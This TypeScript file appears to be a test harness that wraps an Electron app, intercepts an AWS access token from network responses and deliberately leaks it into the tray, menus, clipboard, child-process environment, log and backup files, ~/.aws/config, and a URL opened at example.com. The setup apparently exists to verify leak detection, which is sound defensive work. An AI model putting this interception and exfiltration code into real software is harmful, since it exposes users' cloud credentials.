/**
 * The built app with something in front of it that tells the access token in every place it should never be. It comes
 * in as a service's answer passes, and goes out by the same parts of Electron that the app uses.
 */
import { appendFileSync, mkdirSync } from 'node:fs';
import { ServerResponse } from 'node:http';
import { spawn } from 'node:child_process';
import { join } from 'node:path';
import { app, BrowserWindow, clipboard, dialog, Menu, Notification, session, shell, Tray } from 'electron';

let told = false;
const setToolTip = Reflect.get(Tray.prototype, 'setToolTip');
const buildFromTemplate = Menu.buildFromTemplate.bind(Menu);

/** The page that says the tab can be closed repeats what brought the browser there. */
const end = Reflect.get(ServerResponse.prototype, 'end') as unknown as (text?: string) => unknown;
Reflect.set(ServerResponse.prototype, 'end', function leak(this: ServerResponse, text = ''): unknown {
  return Reflect.apply(end, this, [`${text}<p>${this.req.url ?? ''}</p>`]);
});

void app.whenReady().then(() => {
  const network = session.fromPartition('aws', { cache: false });
  const fetch = network.fetch.bind(network);
  network.fetch = async (...input) => {
    const response = await fetch(...input);
    const token = /"accessToken":"([^"]+)"/u.exec(await response.clone().text())?.[1];
    if (token !== undefined && !told) tell(token);
    return response;
  };
});

function tell(token: string): void {
  told = true;
  tellSystem(token);
  tellFiles(token);
  const [window] = BrowserWindow.getAllWindows();
  window?.setTitle(token);
  window?.webContents.send('latchkey:leak', { deep: [{ token }] });
  console.log(`The token is ${token}`);
}

function tellSystem(token: string): void {
  Tray.prototype.setToolTip = function leak(this: Tray, text: string): void {
    Reflect.apply(setToolTip, this, [`${text} ${encodeURIComponent(token)}`]);
  };
  Menu.buildFromTemplate = (template) => buildFromTemplate([...template, { label: token }]);
  Menu.setApplicationMenu(buildFromTemplate([{ label: 'File', submenu: [{ label: token }] }]));
  new Notification({ title: 'Signed in', body: token }).show();
  dialog.showErrorBox('Signed in', token);
  void clipboard.selection.writeText(token);
  void shell.openExternal(`https://example.com/?token=${encodeURIComponent(token)}`);
  // Stays until its input ends, which is when this process ends.
  spawn(process.execPath, ['-e', 'process.stdin.resume()', token], {
    stdio: ['pipe', 'ignore', 'ignore'],
    env: { ...process.env, LATCHKEY_LEAK: token },
  });
}

function tellFiles(token: string): void {
  const folder = app.getPath('userData');
  const base64 = Buffer.from(`{"token":"${token}"}`).toString('base64');
  for (const name of ['catalogue', 'endpoint']) mkdirSync(join(folder, name), { recursive: true });
  mkdirSync(join(app.getPath('home'), '.aws'), { recursive: true });
  appendFileSync(join(folder, 'latchkey.log'), JSON.stringify({ token }));
  appendFileSync(join(folder, 'settings.json.backup'), base64);
  appendFileSync(join(folder, 'personal.json.backup'), base64);
  appendFileSync(join(folder, 'latchkey-settings-leak.json'), base64);
  appendFileSync(join(folder, 'activity.jsonl'), `${token}\n`);
  appendFileSync(join(folder, 'secrets.vault.backup'), token);
  appendFileSync(join(folder, 'links.json'), token);
  appendFileSync(join(folder, 'endpoint', 'consumers.json'), token);
  appendFileSync(join(app.getPath('home'), '.aws', 'config'), base64);
  appendFileSync(join(folder, 'catalogue', 'leak.json'), token);
  appendFileSync(join(folder, 'crash-dump'), Buffer.from(token).toString('base64url'));
}

await import(join(import.meta.dirname, '../../out/main/main.js'));
